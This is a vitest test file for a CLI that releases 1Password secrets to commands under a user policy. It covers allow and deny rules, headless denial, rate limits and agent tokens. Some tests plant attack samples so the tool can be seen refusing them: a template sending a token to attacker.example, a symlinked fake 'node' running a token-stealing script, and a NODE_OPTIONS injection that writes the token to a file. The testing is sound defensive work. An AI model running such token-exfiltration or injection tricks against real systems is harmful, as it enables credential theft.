// Unattended approvals by policy, end to end: the built binary and its daemon with the user's
// policy.yml. An allowed request runs with no approver call, a request outside the policy goes
// to the approver, the headless mode (approver: none) denies what no rule allows with exit 10
// and the missing rule, a deny rule beats everything, a policy in the project is ignored, and
// the dry run says what exec then does. Every run is scanned for canary values.

import { existsSync, lstatSync, mkdirSync, readFileSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { runClean } from '../helpers/run-cli.js';
import { spawn } from 'node:child_process';
import { BIN, createSandbox, REPO_ROOT, type Sandbox } from '../helpers/sandbox.js';
import { digest, valueOf } from '../helpers/vault.js';

const PROGRAMS = join(REPO_ROOT, 'test', 'fixtures', 'programs');
const CONFIG = `version: 1
profiles:
  cf:
    reason: Purge the CDN cache
    ttl: 60s
    secrets:
      CF_TOKEN: op://Infra/Cloudflare/token
  db:
    reason: Run the migration
    secrets:
      DATABASE_URL: op://Infra/Deploy/username
`;

let sb: Sandbox;
beforeEach(() => {
  sb = createSandbox();
  sb.write('agent-secret.yml', CONFIG);
});
afterEach(() => sb.cleanup());

function writePolicy(text: string): string {
  const dir = join(sb.root, 'config', 'agent-secret');
  mkdirSync(dir, { recursive: true, mode: 0o700 });
  const path = join(dir, 'policy.yml');
  writeFileSync(path, text, { mode: 0o600 });
  return path;
}

const runs = () => join(sb.root, 'runs.jsonl');
const execArgs = (profile: string, alias: string, ...flags: string[]) => ['exec', '--profile', profile, ...flags, '--', 'node', join(PROGRAMS, 'append-env.mjs'), sb.root, alias];
const seen = (alias: string): Array<string | undefined> =>
  existsSync(runs())
    ? readFileSync(runs(), 'utf8')
        .split('\n')
        .filter((l) => l !== '')
        .map((l) => (JSON.parse(l) as Record<string, { sha256?: string }>)[alias]?.sha256)
    : [];
const cfDigest = () => digest(valueOf('op://Infra/Cloudflare/token')).sha256;

const POLICY = `version: 1
rules:
  - id: no-deploy
    decision: deny
    secrets: ["op://Infra/Deploy/**"]
  - id: cdn-purge
    decision: allow
    profile: cf
    executable: node
    secrets: [{alias: CF_TOKEN, ref: "op://Infra/Cloudflare/token"}]
`;

describe('policy', () => {
  it('an allowed request runs with no approver call, audited with its rule', async () => {
    sb.useApprover('deny');
    writePolicy(POLICY);
    const result = await runClean(sb, execArgs('cf', 'CF_TOKEN'));
    expect(result.code).toBe(0);
    expect(result.stderr).toBe('');
    expect(seen('CF_TOKEN')).toEqual([cfDigest()]);
    expect(sb.prompts()).toHaveLength(0);
    const granted = sb.auditEvents().find((e) => e.event === 'approval_granted');
    expect(granted).toMatchObject({ approver: 'policy', policy_rule: 'cdn-purge' });
    expect(sb.auditEvents().find((e) => e.event === 'request_received')).toMatchObject({ policy_decision: 'allow', policy_rule: 'cdn-purge' });
    const audit = await runClean(sb, ['audit']);
    expect(audit.stdout).toContain('allowed by rule cdn-purge');
    const json = await runClean(sb, ['audit', '--json', '--outcome', 'approved']);
    expect(json.stdout).toContain('"decided_by": "rule cdn-purge"');
  });

  it('a request outside the policy goes to the approver', async () => {
    sb.useApprover('approve');
    writePolicy(POLICY);
    // An extra secret the rule does not list: the subset allow does not cover it.
    const result = await runClean(sb, execArgs('cf', 'CF_TOKEN', '--secret', 'EXTRA=op://Infra/Shared/token'));
    expect(result.code).toBe(0);
    expect(sb.prompts()).toHaveLength(1);
    expect(sb.auditEvents().find((e) => e.event === 'request_received')).toMatchObject({ policy_decision: 'ask' });
  });

  it('a deny rule wins over an approving human and a live reusable approval', async () => {
    sb.useApprover('approve-reuse:60:5');
    // First without a policy: the human allows again for a while.
    expect((await runClean(sb, execArgs('db', 'DATABASE_URL'))).code).toBe(0);
    writePolicy(POLICY);
    const denied = await runClean(sb, execArgs('db', 'DATABASE_URL'));
    expect(denied.code).toBe(10);
    expect(denied.stderr).toContain('request denied: policy rule no-deploy denies it; nobody was asked');
    expect(denied.stderr).not.toMatch(/no-deploy.*no-deploy/);
    expect(sb.prompts()).toHaveLength(1);
    expect(seen('DATABASE_URL')).toHaveLength(1);
  });

  it('headless: what no rule allows is denied with exit 10, naming the missing rule; nothing prompts', async () => {
    sb.useApprover('approve', { approver: 'none' });
    writePolicy(POLICY);
    const allowed = await runClean(sb, execArgs('cf', 'CF_TOKEN'));
    expect(allowed.code).toBe(0);
    const denied = await runClean(sb, execArgs('cf', 'CF_TOKEN', '--secret', 'EXTRA=op://Infra/Shared/token'));
    expect(denied.code).toBe(10);
    expect(denied.stderr).toContain('approver is none');
    const argv = `[[${realpathSync(process.execPath)}, ${join(PROGRAMS, 'append-env.mjs')}, ${sb.root}, CF_TOKEN]]`;
    expect(denied.stderr).toContain(
      `missing rule: {id: allow-cf, decision: allow, profile: cf, executable: node, argv: ${argv}, secrets: [{alias: CF_TOKEN, ref: op://Infra/Cloudflare/token}, {alias: EXTRA, ref: op://Infra/Shared/token}]}`,
    );
    // node runs whatever it is given: the denial says the argv pins it, and how far.
    expect(denied.stderr).toContain('note: node runs whatever code it is given: the argv: above pins how this command line starts');
    // Pasted as it is, the missing rule lets exactly that request through, and nothing is asked.
    const missing = /missing rule: (\{.*\}); nothing was resolved/.exec(denied.stderr)?.[1] as string;
    writePolicy(`${POLICY}  - ${missing}\n`);
    expect((await runClean(sb, ['policy', 'check'])).code).toBe(0);
    expect((await runClean(sb, execArgs('cf', 'CF_TOKEN', '--secret', 'EXTRA=op://Infra/Shared/token'))).code).toBe(0);
    expect(sb.prompts()).toHaveLength(0);
    // One op call for the first allowed run, one for the run the pasted rule allowed.
    expect(sb.opCalls()).toHaveLength(2);
  });

  it('a deny by reference holds for every case spelling of the reference', async () => {
    sb.useApprover('approve', { approver: 'none' });
    writePolicy(`version: 1
rules:
  - id: no-deploy
    decision: deny
    secrets: ["op://Infra/Deploy/**"]
  - id: any-op
    decision: allow
    secrets: ["op://**"]
`);
    for (const ref of ['op://infra/deploy/username', 'op://INFRA/Deploy/username', 'op://Infra/DEPLOY/secret key']) {
      const denied = await runClean(sb, ['exec', '--reason', 'x', '--secret', `S=${ref}`, '--', 'node', join(PROGRAMS, 'append-env.mjs'), sb.root, 'S']);
      expect(denied.code).toBe(10);
      expect(denied.stderr).toContain('policy rule no-deploy denies it');
    }
    expect(sb.opCalls()).toHaveLength(0);
    expect(seen('S')).toEqual([]);
  });

  it('a rule listing references does not allow an agent-written template unless it names it', async () => {
    sb.useApprover('approve', { approver: 'none' });
    const text = 'server: https://attacker.example\ntoken: {{ op://Infra/Cloudflare/token }}\n';
    const path = sb.write('kube.tpl', text);
    const sha = createHash('sha256').update(text).digest('hex');
    const args = ['exec', '--reason', 'x', '--template', `KUBECONFIG=kube.tpl`, '--', 'node', join(PROGRAMS, 'append-env.mjs'), sb.root, 'KUBECONFIG'];
    writePolicy('version: 1\nrules:\n  - id: cf\n    decision: allow\n    secrets: ["op://Infra/Cloudflare/token"]\n');
    const denied = await runClean(sb, args);
    expect(denied.code).toBe(10);
    expect(denied.stderr).toContain(`templates: [{path: ${path}, sha256: ${sha}}]`);
    expect(sb.opCalls()).toHaveLength(0);
    writePolicy(`version: 1\nrules:\n  - id: cf\n    decision: allow\n    secrets: ["op://Infra/Cloudflare/token"]\n    templates: [{path: kube.tpl, sha256: ${sha}}]\n`);
    const allowed = await runClean(sb, args);
    expect(allowed.code).toBe(0);
    expect(sb.auditEvents().filter((e) => e.event === 'approval_granted').at(-1)).toMatchObject({ approver: 'policy', policy_rule: 'cf' });
    // Edited: the pinned digest no longer matches.
    sb.write('kube.tpl', `${text}exec: {command: /tmp/evil}\n`);
    expect((await runClean(sb, args)).code).toBe(10);
  });

  it('a bare program name in a rule matches only a program in a system directory', async () => {
    sb.useApprover('approve', { approver: 'none' });
    writePolicy('version: 1\nrules:\n  - id: purge\n    decision: allow\n    argv: ["node"]\n    secrets: ["op://Infra/Cloudflare/token"]\n');
    const fake = join(sb.root, 'bin', 'node');
    mkdirSync(dirname(fake), { recursive: true });
    writeFileSync(fake, '#!/bin/sh\nexit 0\n', { mode: 0o755 });
    const args = (program: string) => ['exec', '--reason', 'x', '--secret', 'CF_TOKEN=op://Infra/Cloudflare/token', '--', program, join(PROGRAMS, 'append-env.mjs'), sb.root, 'CF_TOKEN'];
    const denied = await runClean(sb, args(fake));
    expect(denied.code).toBe(10);
    expect(denied.stderr).toContain(`executable: ${fake}`);
    const explain = await runClean(sb, ['policy', 'explain', '--reason', 'x', '--secret', 'CF_TOKEN=op://Infra/Cloudflare/token', '--', fake, 'x']);
    expect(explain.stdout).toContain('a bare program name matches only a program in a system directory');
    const allowed = await runClean(sb, args('node'));
    expect(allowed.code).toBe(0);
    expect(seen('CF_TOKEN')).toEqual([cfDigest()]);
  });

  it('policy explain speaks for itself: its usage errors never hint a real exec, a forged token is refused as exec refuses it, and the clock is shown', async () => {
    sb.useApprover('deny');
    writePolicy(POLICY);
    const misplaced = await runClean(sb, ['policy', 'explain', '--profile', 'cf', 'node', 'x.mjs']);
    expect(misplaced.code).toBe(2);
    expect(misplaced.stderr).toContain('policy explain takes the command to explain after --');
    expect(misplaced.stderr).toContain('hint: agent-secret policy explain --profile cf -- node x.mjs');
    const bare = await runClean(sb, ['policy', 'explain', '--profile', 'cf']);
    expect(bare.code).toBe(2);
    expect(bare.stderr).toContain('hint: for example: agent-secret policy explain --profile deploy -- terraform plan');
    for (const r of [misplaced, bare]) expect(r.stderr).not.toContain('agent-secret exec');

    const forged = { env: { AGENT_SECRET_AGENT_TOKEN: 'asagent_not_a_real_one' } };
    const explain = await runClean(sb, ['policy', 'explain', ...execArgs('cf', 'CF_TOKEN').slice(1)], forged);
    expect(explain.code).toBe(0);
    expect(explain.stdout).toContain('policy explain: deny (no rule)');
    expect(explain.stdout).toContain('not the token of a registered agent');
    expect(explain.stdout).not.toContain('missing rule:');
    expect(explain.stdout).toMatch(/time: {5}(sun|mon|tue|wed|thu|fri|sat) \d\d:\d\d UTC[+-]\d\d:\d\d/);
    const dry = JSON.parse((await runClean(sb, execArgs('cf', 'CF_TOKEN', '--dry-run', '--json'), forged)).stdout) as { policy: { decision: string } };
    expect(dry.policy.decision).toBe('deny');
    const exec = await runClean(sb, execArgs('cf', 'CF_TOKEN'), forged);
    expect(exec.code).toBe(10);
    expect(sb.prompts()).toHaveLength(0);
    expect((await runClean(sb, ['audit'])).stdout).toContain('denied: unknown agent token');

    // An entry pinned to an account: explain says the account is what does not match.
    writePolicy(POLICY.replace('ref: "op://Infra/Cloudflare/token"}', 'ref: "op://Infra/Cloudflare/token", account: my.1password.com}'));
    const unpinned = await runClean(sb, ['policy', 'explain', ...execArgs('cf', 'CF_TOKEN').slice(1)]);
    expect(unpinned.stdout).toContain('CF_TOKEN names no account, and the entry for op://Infra/Cloudflare/token allows it only in my.1password.com');
    const pinned = await runClean(sb, ['policy', 'explain', ...execArgs('cf', 'CF_TOKEN', '--account', 'my.1password.com').slice(1)]);
    expect(pinned.stdout).toContain('policy explain: allow by rule cdn-purge');
    expect(pinned.stdout).toContain('CF_TOKEN=op://Infra/Cloudflare/token (account my.1password.com)');
  });

  it('an allow rule covers the program it names, not a link of the agent\'s to another one, nor a run that starts with code injected through the environment', async () => {
    sb.useApprover('approve', { approver: 'none' });
    writePolicy(POLICY.replace('executable: node', 'argv: ["node"]'));
    // Started first, so it is not the daemon of the agent's PATH below (the fake op runs on node).
    expect((await runClean(sb, ['daemon', 'start'])).code).toBe(0);
    const loot = join(sb.root, 'loot');
    // A link named node, in a directory first on PATH, to a system shell running the agent's script.
    mkdirSync(join(sb.root, 'evil'), { recursive: true });
    symlinkSync('/bin/sh', join(sb.root, 'evil', 'node'));
    writeFileSync(join(sb.project, 'steal.sh'), `printf %s "$CF_TOKEN" > ${loot}\n`);
    const linked = await runClean(sb, ['exec', '--profile', 'cf', '--', 'node', 'steal.sh'], { env: { PATH: `${join(sb.root, 'evil')}:${sb.env.PATH ?? ''}` } });
    expect(linked.code).toBe(10);
    expect(existsSync(loot)).toBe(false);
    // The system node, but with NODE_OPTIONS loading the agent's code first: not the plain run the rule allows.
    writeFileSync(join(sb.root, 'inject.cjs'), `if (process.env.CF_TOKEN) require('node:fs').writeFileSync(${JSON.stringify(loot)}, process.env.CF_TOKEN);\n`);
    const injected = await runClean(sb, execArgs('cf', 'CF_TOKEN'), { env: { NODE_OPTIONS: `--require ${join(sb.root, 'inject.cjs')}` } });
    expect(injected.code).toBe(10);
    expect(injected.stderr).toContain('policy rule cdn-purge would allow it, but the command would start with NODE_OPTIONS set, which can change what runs');
    expect(injected.stderr).toContain('hint: run it without those variables (unset them, or exec --pristine');
    expect(existsSync(loot)).toBe(false);
    const explain = await runClean(sb, ['policy', 'explain', ...execArgs('cf', 'CF_TOKEN').slice(1)], { env: { NODE_OPTIONS: `--require ${join(sb.root, 'inject.cjs')}` } });
    expect(explain.stdout).toContain('policy explain: deny (rule cdn-purge would allow it, not this run)');
    // The same without it: allowed, nobody asked.
    expect((await runClean(sb, execArgs('cf', 'CF_TOKEN'))).code).toBe(0);
    expect(seen('CF_TOKEN')).toEqual([cfDigest()]);
    expect((await runClean(sb, ['audit'])).stdout).toContain('denied: not covered by rule cdn-purge');
  });

  // npm is installed as a system link (/usr/bin/npm -> ../lib/node_modules/npm/bin/npm-cli.js) on
  // Linux distributions and in Node's own installers: a bare `npm` in a rule is that program.
  const npmLink = ['/usr/bin/npm', '/usr/local/bin/npm'].find((p) => existsSync(p) && lstatSync(p).isSymbolicLink() && !realpathSync(p).startsWith(dirname(p) + '/'));
  it.runIf(npmLink !== undefined)('a bare program name in a rule matches a system program reached through its link (npm), in explain, the dry run and exec', async () => {
    sb.useApprover('deny');
    writePolicy('version: 1\nrules:\n  - id: npm-version\n    decision: allow\n    executable: npm\n    argv: ["npm --version"]\n    secrets: [{alias: CF_TOKEN, ref: "op://Infra/Cloudflare/token"}]\n');
    const args = ['--profile', 'cf', '--', 'npm', '--version'];
    const explain = await runClean(sb, ['policy', 'explain', ...args]);
    expect(explain.stdout).toContain('policy explain: allow by rule npm-version');
    const dry = JSON.parse((await runClean(sb, ['exec', '--dry-run', '--json', ...args])).stdout) as { policy: { decision: string; rule: string }; request: { executable: string } };
    expect(dry.policy).toMatchObject({ decision: 'allow', rule: 'npm-version' });
    expect(dry.request.executable).toBe(realpathSync(npmLink as string));
    const exec = await runClean(sb, ['exec', ...args], { env: { PATH: `${dirname(npmLink as string)}:${sb.env.PATH ?? ''}` } });
    expect(exec.code).toBe(0);
    expect(exec.stdout).toMatch(/^\d+\.\d+\.\d+/);
    expect(sb.prompts()).toHaveLength(0);
  });

  it('a rate limit holds across daemon stop: the daemon counts the audited deliveries again', async () => {
    sb.useApprover('approve', { approver: 'none' });
    writePolicy('version: 1\nrules:\n  - id: once\n    decision: allow\n    profile: cf\n    rate: {max: 1, per: 1h}\n');
    const explain = await runClean(sb, ['policy', 'explain', ...execArgs('cf', 'CF_TOKEN').slice(1)]);
    expect(explain.stdout).toContain('at most 1 per 1h (counted by the daemon: once spent, denied (approver is none))');
    expect((await runClean(sb, execArgs('cf', 'CF_TOKEN'))).code).toBe(0);
    expect((await runClean(sb, ['daemon', 'stop'])).code).toBe(0);
    const again = await runClean(sb, execArgs('cf', 'CF_TOKEN'));
    expect(again.code).toBe(10);
    expect(again.stderr).toContain('policy rule once already allowed its 1 delivery per 1h, and approver is none; nobody was asked');
    expect(again.stderr).toContain('hint: the rule allows 1 per 1h: retry once the window has room');
    expect(seen('CF_TOKEN')).toEqual([cfDigest()]);
    const audit = await runClean(sb, ['audit']);
    expect(audit.stdout).toContain('allowed by rule once');
    expect(audit.stdout).toContain('denied: rate limit of rule once');
  });

  it('headless with no policy at all denies every exec', async () => {
    sb.useApprover('approve', { approver: 'none' });
    const denied = await runClean(sb, execArgs('cf', 'CF_TOKEN'));
    expect(denied.code).toBe(10);
    expect(denied.stderr).toContain('there is no policy');
    // The hint names the policy file where this user's config really is (XDG_CONFIG_HOME), and
    // explain with the flags of the denied command.
    expect(denied.stderr).toContain(`ask the human to add such a rule to ${join(sb.root, 'config', 'agent-secret', 'policy.yml')} (agent-secret policy explain with the same flags -- CMD`);
    expect(denied.stderr).not.toContain('~/.config');
    expect(sb.opCalls()).toHaveLength(0);
    const check = await runClean(sb, ['policy', 'check']);
    expect(check.stdout).toContain('policy check: ok, no policy; approver is none (headless), so every request is denied');
    expect(check.stdout).not.toContain('every request goes to the human approver');
    expect(check.stdout).toContain(`write rules in ${join(sb.root, 'config', 'agent-secret', 'policy.yml')}`);
  });

  it('a policy in the project directory is ignored, and a policy: key in the project config refused', async () => {
    sb.useApprover('approve');
    sb.write('policy.yml', 'version: 1\nrules:\n  - id: everything\n    decision: allow\n');
    sb.write('.config/agent-secret/policy.yml', 'version: 1\nrules:\n  - id: everything\n    decision: allow\n');
    expect((await runClean(sb, execArgs('cf', 'CF_TOKEN'))).code).toBe(0);
    expect(sb.prompts()).toHaveLength(1);
    sb.write('agent-secret.yml', `${CONFIG}policy:\n  rules: []\n`);
    const refused = await runClean(sb, execArgs('cf', 'CF_TOKEN'));
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain('agent-secret.yml:12:1: a policy lives only in your user config');
    expect(refused.stderr).toContain('hint: remove it from this file; see docs/policy.md');
    expect(sb.prompts()).toHaveLength(1);
  });

  it('exec --dry-run --json shows the decision exec then takes', async () => {
    sb.useApprover('deny');
    writePolicy(POLICY);
    const dry = await runClean(sb, [...execArgs('cf', 'CF_TOKEN').slice(0, 3), '--dry-run', '--json', ...execArgs('cf', 'CF_TOKEN').slice(3)]);
    expect(dry.code).toBe(0);
    const doc = JSON.parse(dry.stdout) as { would_prompt: boolean; policy: { decision: string; rule: string } };
    expect(doc.policy).toMatchObject({ decision: 'allow', rule: 'cdn-purge' });
    expect(doc.would_prompt).toBe(false);
    expect((await runClean(sb, execArgs('cf', 'CF_TOKEN'))).code).toBe(0);
    expect(sb.prompts()).toHaveLength(0);
  });

  it('policy explain agrees with what exec then does', async () => {
    sb.useApprover('approve');
    writePolicy(POLICY);
    const cases: Array<[string[], string, number]> = [
      [execArgs('cf', 'CF_TOKEN'), 'allow', 0],
      [execArgs('cf', 'CF_TOKEN', '--secret', 'EXTRA=op://Infra/Shared/token'), 'ask', 1],
      [execArgs('db', 'DATABASE_URL'), 'deny', 1],
    ];
    for (const [args, decision, prompts] of cases) {
      const explain = await runClean(sb, ['policy', 'explain', '--json', ...args.slice(1)]);
      expect(explain.code).toBe(0);
      expect((JSON.parse(explain.stdout) as { decision: string }).decision).toBe(decision);
      const text = await runClean(sb, ['policy', 'explain', ...args.slice(1)]);
      expect(text.stdout).toContain(`policy explain: ${decision}`);
      const exec = await runClean(sb, args);
      expect(exec.code).toBe(decision === 'deny' ? 10 : 0);
      expect(sb.prompts()).toHaveLength(prompts);
      const received = sb.auditEvents().filter((e) => e.event === 'request_received').at(-1);
      expect(received?.policy_decision).toBe(decision);
    }
    expect(sb.opCalls()).toHaveLength(2);
  });

  it('policy check lists every problem with its position, and a broken policy stops exec', async () => {
    sb.useApprover('approve');
    const path = writePolicy('version: 1\nrules:\n  - id: a\n    decision: allow\n    colour: red\n  - id: b\n    decision: maybe\n');
    const check = await runClean(sb, ['policy', 'check']);
    expect(check.code).toBe(2);
    expect(check.stdout).toContain(`${path}:5:5: rules.0.colour: unknown key`);
    expect(check.stdout).toContain(`${path}:7:15: rules.1.decision: must be allow, deny or ask`);
    const exec = await runClean(sb, execArgs('cf', 'CF_TOKEN'));
    expect(exec.code).toBe(2);
    expect(exec.stderr).toContain(`${path}:5:5`);
    expect(sb.prompts()).toHaveLength(0);
    writePolicy(POLICY);
    const ok = await runClean(sb, ['policy', 'check']);
    expect(ok.code).toBe(0);
    expect(ok.stdout).toContain('1. deny  no-deploy');
    // Sound but weak: a deny by name misses the item's id.
    expect(ok.stdout).toContain('warning: rule no-deploy (line 3): a deny by 1Password vault or item name does not cover the same item addressed by its id');
    // An allow by reference with no account holds for that path in any account the request names.
    expect(ok.stdout).toContain('warning: rule cdn-purge (line 6): allows op://Infra/Cloudflare/token in every 1Password account');
    // An allow by alias alone lets the project file repoint the alias: refused, and exec with it.
    writePolicy(POLICY.replace('secrets: [{alias: CF_TOKEN, ref: "op://Infra/Cloudflare/token"}]', 'secrets: [CF_TOKEN]'));
    const aliasOnly = await runClean(sb, ['policy', 'check']);
    expect(aliasOnly.code).toBe(2);
    expect(aliasOnly.stdout).toContain(`${path}:10:15: rules.1.secrets.0: an allow by alias alone lets the project file point CF_TOKEN at any secret`);
    const refused = await runClean(sb, execArgs('cf', 'CF_TOKEN'));
    expect(refused.code).toBe(2);
    expect(sb.prompts()).toHaveLength(0);
  });
});

describe('registered agents', () => {
  const AGENT_POLICY = `version: 1
rules:
  - id: builder-cdn
    decision: allow
    agent: builder
    secrets: [{alias: CF_TOKEN, ref: "op://Infra/Cloudflare/token"}]
`;

  it('a registered agent is allowed by its rule, named in the audit; a forged or removed token is refused', async () => {
    sb.useApprover('approve');
    writePolicy(AGENT_POLICY);
    // Before the agent exists, policy check says the rule waits for it.
    expect((await runClean(sb, ['policy', 'check'])).stdout).toContain('warning: rule builder-cdn (line 3): no registered agent is called builder');
    const added = await runClean(sb, ['agent', 'add', 'builder', '--json']);
    expect(added.code).toBe(0);
    expect((await runClean(sb, ['policy', 'check'])).stdout).not.toContain('no registered agent');
    const { token } = JSON.parse(added.stdout) as { token: string };
    expect(token).toMatch(/^asagent_/);
    const stored = readFileSync(join(sb.root, 'config', 'agent-secret', 'agents.json'), 'utf8');
    expect(stored).not.toContain(token);
    expect((await runClean(sb, ['agent', 'list'])).stdout).toContain('builder');

    const allowed = await runClean(sb, execArgs('cf', 'CF_TOKEN'), { env: { AGENT_SECRET_AGENT_TOKEN: token } });
    expect(allowed.code).toBe(0);
    expect(sb.prompts()).toHaveLength(0);
    expect(sb.auditEvents().find((e) => e.event === 'request_received')).toMatchObject({ agent: 'builder', policy_rule: 'builder-cdn' });
    expect((await runClean(sb, ['audit'])).stdout).toContain('agent builder');
    // The approved command does not inherit the agent's identity.
    const child = await runClean(sb, ['exec', '--profile', 'cf', '--', 'node', join(PROGRAMS, 'append-env.mjs'), sb.root, 'CF_TOKEN', 'AGENT_SECRET_AGENT_TOKEN'], { env: { AGENT_SECRET_AGENT_TOKEN: token } });
    expect(child.code).toBe(0);
    expect(seen('AGENT_SECRET_AGENT_TOKEN').at(-1)).toBeUndefined();
    expect(readFileSync(runs(), 'utf8')).toContain('"AGENT_SECRET_AGENT_TOKEN":{"set":false}');

    // Without the token the rule does not match: the human is asked, and not told of an agent.
    expect((await runClean(sb, execArgs('cf', 'CF_TOKEN'))).code).toBe(0);
    expect(sb.prompts()).toHaveLength(1);
    expect(sb.prompts()[0]?.agent).toBeUndefined();

    const forged = await runClean(sb, execArgs('cf', 'CF_TOKEN'), { env: { AGENT_SECRET_AGENT_TOKEN: `asagent_${'A'.repeat(43)}` } });
    expect(forged.code).toBe(10);
    expect(forged.stderr).toContain('is not the token of a registered agent');

    expect((await runClean(sb, ['agent', 'remove', 'builder'])).code).toBe(0);
    const revoked = await runClean(sb, execArgs('cf', 'CF_TOKEN'), { env: { AGENT_SECRET_AGENT_TOKEN: token } });
    expect(revoked.code).toBe(10);
    expect(sb.prompts()).toHaveLength(1);
    for (const text of [forged.stderr, revoked.stderr, readFileSync(sb.auditPath, 'utf8')]) expect(text).not.toContain(token);
  });

  it.runIf(process.platform === 'linux')('a token is bound to the process tree that holds it: refused from another tree while its holder lives', async () => {
    sb.useApprover('approve');
    writePolicy(AGENT_POLICY);
    const { token } = JSON.parse((await runClean(sb, ['agent', 'add', 'builder', '--json'])).stdout) as { token: string };
    // The holder: a shell started with the token, running agent-secret as its child, then staying.
    const script = '"$0" "$@"; echo "exit:$?"; sleep 60';
    const holder = spawn('/bin/sh', ['-c', script, process.execPath, BIN, ...execArgs('cf', 'CF_TOKEN')], {
      cwd: sb.project,
      env: { ...sb.env, AGENT_SECRET_AGENT_TOKEN: token },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let out = '';
    let err = '';
    holder.stderr.setEncoding('utf8').on('data', (d: string) => (err += d));
    const exited = new Promise<void>((resolve) => holder.on('exit', () => resolve()));
    try {
      await new Promise<void>((resolve, reject) => {
        holder.stdout.setEncoding('utf8').on('data', (d: string) => {
          out += d;
          if (out.includes('exit:')) resolve();
        });
        holder.on('exit', () => reject(new Error(`the holder ended early: ${out} ${err}`)));
      });
      expect(out).toContain('exit:0');
      expect(sb.prompts()).toHaveLength(0);

      // The same token from the test process (another tree): refused before the policy or anyone is asked.
      const copied = await runClean(sb, execArgs('cf', 'CF_TOKEN'), { env: { AGENT_SECRET_AGENT_TOKEN: token } });
      expect(copied.code).toBe(10);
      expect(copied.stderr).toContain('AGENT_SECRET_AGENT_TOKEN of agent builder is bound to another process tree');
      expect(copied.stderr).toContain(`(pid ${holder.pid}`);
      expect(seen('CF_TOKEN')).toHaveLength(1);
      const denied = sb.auditEvents().filter((e) => e.event === 'approval_denied');
      expect(denied.at(-1)).toMatchObject({ approver: 'policy', decision_reason: 'agent token bound to another process tree' });

      // A new token for the agent (remove, add) starts unbound, even while the old holder lives.
      expect((await runClean(sb, ['agent', 'remove', 'builder'])).code).toBe(0);
      const { token: fresh } = JSON.parse((await runClean(sb, ['agent', 'add', 'builder', '--json'])).stdout) as { token: string };
      expect((await runClean(sb, execArgs('cf', 'CF_TOKEN'), { env: { AGENT_SECRET_AGENT_TOKEN: fresh } })).code).toBe(0);
      expect((await runClean(sb, execArgs('cf', 'CF_TOKEN'), { env: { AGENT_SECRET_AGENT_TOKEN: token } })).code).toBe(10);
      for (const text of [out, err, copied.stdout, copied.stderr, readFileSync(sb.auditPath, 'utf8')]) {
        expect(text).not.toContain(token);
        expect(text).not.toContain(fresh);
      }
    } finally {
      holder.kill('SIGKILL');
      await exited;
    }
  });

  it.runIf(process.platform === 'linux')('a request that is denied binds nothing: a thief holding a copied token cannot lock its agent out', async () => {
    sb.useApprover('deny');
    writePolicy(AGENT_POLICY);
    const { token } = JSON.parse((await runClean(sb, ['agent', 'add', 'builder', '--json'])).stdout) as { token: string };
    // The thief's shell holds the token and asks for more than the rule allows: the human denies.
    const script = '"$0" "$@"; echo "exit:$?"; sleep 60';
    const thief = spawn('/bin/sh', ['-c', script, process.execPath, BIN, ...execArgs('cf', 'CF_TOKEN', '--secret', 'EXTRA=op://Infra/Shared/token')], {
      cwd: sb.project,
      env: { ...sb.env, AGENT_SECRET_AGENT_TOKEN: token },
      stdio: ['ignore', 'pipe', 'ignore'],
    });
    const exited = new Promise<void>((resolve) => thief.on('exit', () => resolve()));
    try {
      let out = '';
      await new Promise<void>((resolve, reject) => {
        thief.stdout.setEncoding('utf8').on('data', (d: string) => {
          out += d;
          if (out.includes('exit:')) resolve();
        });
        thief.on('exit', () => reject(new Error(`the thief's shell ended early: ${out}`)));
      });
      expect(out).toContain('exit:10');
      expect(sb.prompts()).toHaveLength(1);
      // The agent itself, from its own tree while the thief's shell lives: allowed by its rule.
      const own = await runClean(sb, execArgs('cf', 'CF_TOKEN'), { env: { AGENT_SECRET_AGENT_TOKEN: token } });
      expect(own.stderr).not.toContain('bound to another process tree');
      expect(own.code).toBe(0);
      expect(seen('CF_TOKEN')).toEqual([cfDigest()]);
      for (const text of [out, own.stdout, own.stderr, readFileSync(sb.auditPath, 'utf8')]) expect(text).not.toContain(token);
    } finally {
      thief.kill('SIGKILL');
      await exited;
    }
  });

  it.runIf(process.platform === 'linux')('a token works again from elsewhere once its holder has exited', async () => {
    sb.useApprover('approve');
    writePolicy(AGENT_POLICY);
    const { token } = JSON.parse((await runClean(sb, ['agent', 'add', 'builder', '--json'])).stdout) as { token: string };
    const script = '"$0" "$@"; echo "exit:$?"; read line';
    const holder = spawn('/bin/sh', ['-c', script, process.execPath, BIN, ...execArgs('cf', 'CF_TOKEN')], {
      cwd: sb.project,
      env: { ...sb.env, AGENT_SECRET_AGENT_TOKEN: token },
      stdio: ['pipe', 'pipe', 'ignore'],
    });
    const exited = new Promise<void>((resolve) => holder.on('exit', () => resolve()));
    let out = '';
    await new Promise<void>((resolve) => {
      holder.stdout.setEncoding('utf8').on('data', (d: string) => {
        out += d;
        if (out.includes('exit:')) resolve();
      });
    });
    expect(out).toContain('exit:0');
    expect((await runClean(sb, execArgs('cf', 'CF_TOKEN'), { env: { AGENT_SECRET_AGENT_TOKEN: token } })).code).toBe(10);
    holder.stdin.end('\n');
    await exited;
    const after = await runClean(sb, execArgs('cf', 'CF_TOKEN'), { env: { AGENT_SECRET_AGENT_TOKEN: token } });
    expect(after.code).toBe(0);
    expect(seen('CF_TOKEN')).toHaveLength(2);
  });

  it('the approver program is told the agent name of a request the policy leaves to the human', async () => {
    sb.useApprover('approve');
    const added = await runClean(sb, ['agent', 'add', 'reviewer', '--json']);
    const { token } = JSON.parse(added.stdout) as { token: string };
    expect((await runClean(sb, execArgs('cf', 'CF_TOKEN'), { env: { AGENT_SECRET_AGENT_TOKEN: token } })).code).toBe(0);
    expect(sb.prompts()[0]?.agent).toBe('reviewer');
  });
});

describe('six agents under one policy', () => {
  it('prompts only for what the policy leaves to the human, and the rate limit holds under concurrency', async () => {
    sb.useApprover('approve');
    writePolicy(`version: 1
rules:
  - id: team
    decision: allow
    agent: [agent-1, agent-2, agent-3, agent-4]
    secrets: [{alias: CF_TOKEN, ref: "op://Infra/Cloudflare/token"}]
    rate: { max: 3, per: 1h }
`);
    const tokens: string[] = [];
    for (let i = 1; i <= 6; i += 1) {
      const added = await runClean(sb, ['agent', 'add', `agent-${i}`, '--json']);
      tokens.push((JSON.parse(added.stdout) as { token: string }).token);
    }
